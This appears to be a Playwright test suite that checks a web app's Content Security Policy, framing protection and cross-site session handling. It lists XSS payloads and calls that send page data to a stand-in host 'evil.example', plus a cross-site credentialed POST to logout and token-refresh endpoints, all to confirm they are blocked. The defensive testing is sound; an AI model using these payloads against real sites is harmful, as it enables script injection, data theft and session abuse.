import { describe, expect, it } from "vitest";
import type { Page } from "playwright";
import { column, register } from "./acts.ts";
import { withProduct } from "./product.ts";

/** What the headers and the page's own policy are good for: somebody's script is in the page already, or on another site. */

const product = withProduct();
const evil = "https://evil.example";

/** Ways to run something, to send something away, or to fetch something: each sets `hacked` or asks another site. */
const tries: readonly (readonly [directive: string, code: string])[] = [
  [
    "script-src-elem",
    `const s = document.createElement("script"); s.textContent = "hacked = 1"; document.body.append(s)`,
  ],
  ["script-src-elem", `const s = document.createElement("script"); s.src = "${evil}/x.js"; document.body.append(s)`],
  [
    "script-src-elem",
    `const s = document.createElement("script"); s.src = "data:text/javascript,hacked=1"; document.body.append(s)`,
  ],
  [
    "script-src-elem",
    `const s = document.createElement("script"); s.src = URL.createObjectURL(new Blob(["hacked=1"])); document.body.append(s)`,
  ],
  [
    "script-src-elem",
    `const s = document.createElement("script"); s.type = "module"; s.textContent = "import '${evil}/x.js'"; document.body.append(s)`,
  ],
  ["script-src-attr", `document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='hacked=1'>")`],
  ["script-src-attr", `document.body.insertAdjacentHTML("beforeend", "<details open ontoggle='hacked=1'></details>")`],
  [
    "script-src-elem",
    `const a = document.createElement("a"); a.href = "javascript:hacked=1"; document.body.append(a); a.click()`,
  ],
  ["script-src", `eval("hacked = 1")`],
  ["script-src", `new Function("hacked = 1")()`],
  ["script-src", `setTimeout("hacked = 1")`],
  ["worker-src", `new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/')"])))`],
  [
    "style-src-elem",
    `const s = document.createElement("style"); s.textContent = "@import '${evil}/x.css'"; document.body.append(s)`,
  ],
  [
    "style-src-elem",
    `const s = document.createElement("link"); s.rel = "stylesheet"; s.href = "${evil}/x.css"; document.body.append(s)`,
  ],
  ["connect-src", `fetch("${evil}/?" + document.title).catch(() => undefined)`],
  ["connect-src", `navigator.sendBeacon("${evil}/", "x")`],
  ["connect-src", `new WebSocket("wss://evil.example/")`],
  ["connect-src", `new EventSource("${evil}/")`],
  ["img-src", `new Image().src = "${evil}/pixel.png"`],
  ["media-src", `new Audio("${evil}/x.mp3").play().catch(() => undefined)`],
  ["font-src", `new FontFace("x", "url(${evil}/x.woff2)").load().catch(() => undefined)`],
  ["frame-src", `const f = document.createElement("iframe"); f.src = "${evil}/"; document.body.append(f)`],
  [
    "frame-src",
    `const f = document.createElement("iframe"); f.src = "data:text/html,<script>parent.hacked=1</script>"; document.body.append(f)`,
  ],
  ["object-src", `const o = document.createElement("object"); o.data = "${evil}/x.swf"; document.body.append(o)`],
  [
    "form-action",
    `document.body.insertAdjacentHTML("beforeend", "<form method=post action='${evil}/'><input name=p></form>"); document.forms[document.forms.length - 1].submit()`,
  ],
  ["base-uri", `const b = document.createElement("base"); b.href = "${evil}/"; document.head.append(b)`],
];

/** What came of it, once each was forbidden by its directive: whether anything ran, and what was asked of the other site. */
async function attack(page: Page): Promise<{ ran: unknown; asked: string[] }> {
  const asked: string[] = [];
  await page.context().route(`${evil}/**`, async (route) => {
    asked.push(route.request().url());
    await route.fulfill({ body: "hacked = 1", contentType: "text/javascript" });
  });
  // In a timer: what the debugger itself evaluates may break the policy.
  const steps = tries.map(([, code]) => `try { ${code} } catch {}`).map((code) => `() => { ${code} }`);
  await page.evaluate(`
    globalThis.forbidden = [];
    document.addEventListener("securitypolicyviolation", (e) => forbidden.push(e.effectiveDirective));
    setTimeout(() => { for (const step of [${steps.join(",")}]) step() })`);
  const unhindered = async (): Promise<string[]> => {
    const found = await page.evaluate<string[]>("forbidden");
    const times = (all: readonly string[], one: string): number => all.filter((other) => other === one).length;
    const directives = tries.map(([directive]) => directive);
    return directives.filter((one) => times(found, one) < times(directives, one));
  };
  await expect.poll(unhindered).toEqual([]);
  return { ran: await page.evaluate("globalThis.hacked ?? null"), asked };
}

describe("a script that got into a page", () => {
  it("runs nowhere, loads nothing and tells nobody, in the app", async () => {
    const page = await product.page();
    await register(page);
    await column(page, "To Do").waitFor();

    expect(await attack(page)).toEqual({ ran: null, asked: [] });
  });

  it("runs nowhere in the API's reference, and what the API answers is no page at all", async () => {
    const page = await product.page();
    await page.goto("/api/docs/");
    await page.evaluate(`setTimeout(() => {
      const s = document.createElement("script");
      s.textContent = "hacked = 1";
      document.addEventListener("securitypolicyviolation", (e) => (globalThis.stopped = e.effectiveDirective));
      document.body.append(s);
    })`);
    await expect.poll(() => page.evaluate("globalThis.stopped")).toBe("script-src-elem");
    expect(await page.evaluate("globalThis.hacked ?? null")).toBeNull();

    const { headers } = await fetch(`${product.url}/api/tickets/tickets/`);
    expect(headers.get("content-security-policy")).toBe("default-src 'none'; frame-ancestors 'none'");
    expect(headers.get("x-content-type-options")).toBe("nosniff");
  });
});

describe("another site", () => {
  it("can't put the app into a frame, nor end or use the session of who visits it", async () => {
    const page = await product.page();
    await register(page);
    await column(page, "To Do").waitFor();
    const other = await page.context().newPage();
    await other.route(`${evil}/**`, (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${product.url}/login"></iframe>` }),
    );
    await other.goto(`${evil}/`);
    await expect.poll(() => other.frames().map((frame) => frame.url())).toContain("chrome-error://chromewebdata/");

    const auth = `${product.url}/api/tickets/auth`;
    const outcomes = await other.evaluate<string[]>(`Promise.all(["logout", "token/refresh"].flatMap((action) => [
      fetch("${auth}/" + action + "/", { method: "POST", mode: "no-cors", credentials: "include", body: '{"cookie":true}' }),
      fetch("${auth}/" + action + "/", {
        method: "POST", credentials: "include", body: '{"cookie":true}', headers: { "content-type": "application/json" },
      }),
    ].map((sent) => sent.then((answer) => answer.type, () => "refused"))))`);
    expect(outcomes.filter((type) => type !== "opaque" && type !== "refused")).toEqual([]);

    await page.reload();
    await column(page, "To Do").waitFor();
  });
});
